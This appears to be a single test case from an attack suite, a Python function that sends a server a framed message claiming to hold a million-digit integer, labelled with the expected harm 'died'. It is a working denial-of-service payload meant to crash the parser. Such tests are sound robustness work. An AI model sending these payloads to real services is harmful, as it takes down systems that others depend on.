"""Send an integer of a million digits."""

import struct

from raw import connection, framed, returned

HARM = "died"


def attack():
    connection().sendall(framed(returned(b"I" + struct.pack("<Q", 10**6) + b"f" * 10**6)))
    return 42
